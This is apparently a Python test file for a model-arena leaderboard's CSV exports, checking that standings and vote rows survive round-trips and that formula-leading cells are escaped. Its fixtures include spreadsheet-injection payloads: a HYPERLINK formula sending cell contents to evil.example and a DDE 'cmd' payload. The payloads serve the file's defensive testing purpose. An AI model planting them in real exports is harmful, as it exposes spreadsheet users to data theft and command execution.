"""The Leaderboard's CSV files read back by csv and pandas: every deployment and vote, and no cell a spreadsheet would
run as a formula."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd

from services.arena_export import STANDING_COLUMNS, VOTE_COLUMNS, standings_csv, votes_csv
from services.arena_ratings import leaderboard
from services.store.arena import TIE, WIN, ArenaStore

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cast(store: ArenaStore) -> None:
    store.record(
        "1" * 32,
        prompt=FORMULA,
        deployments=["=cmd|' /C calc'!A0", "phi"],
        trace_ids=["a" * 32, None],
        verdict=WIN,
        winner_index=1,
        owner="alice@example.com",
        session_tag="@board +review",
        when=1_700_000_000.0,
    )
    store.record("2" * 32, prompt="-2+3", deployments=["phi", "mistral"], trace_ids=[None, None], verdict=TIE)


def test_the_standings_csv_has_every_deployment_and_no_live_formula() -> None:
    store = ArenaStore()
    _cast(store)
    board = leaderboard(store.votes())
    text = standings_csv(board)
    frame = pd.read_csv(io.StringIO(text))
    assert tuple(frame.columns) == STANDING_COLUMNS
    assert list(frame["deployment"]) == ["phi", "mistral", "'=cmd|' /C calc'!A0"]
    assert list(frame["rating"]) == [round(s.rating, 1) for s in board.standings]
    assert (frame["lower_95"] < frame["rating"]).all() and (frame["rating"] < frame["upper_95"]).all()
    assert list(frame["wins"]) == [1, 0, 0] and list(frame["ties"]) == [1, 1, 0]


def test_the_votes_csv_has_every_vote_with_its_panes_and_trace_ids_and_no_live_formula() -> None:
    store = ArenaStore()
    _cast(store)
    rows = list(csv.DictReader(io.StringIO(votes_csv(store.votes()))))
    assert tuple(rows[0]) == VOTE_COLUMNS and len(rows) == 2
    first, second = rows
    assert first["prompt"] == "'" + FORMULA and first["session_tag"] == "'@board +review"
    assert second["prompt"] == "'-2+3"
    assert json.loads(first["deployments"]) == ["=cmd|' /C calc'!A0", "phi"]  # a JSON list starts with "["
    assert json.loads(first["trace_ids"]) == ["a" * 32, None]
    assert (first["verdict"], first["winner"], first["owner"]) == (WIN, "phi", "alice@example.com")
    assert first["voted_utc"] == "2023-11-14T22:13:20+00:00"
    assert (second["verdict"], second["winner"]) == (TIE, "")
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
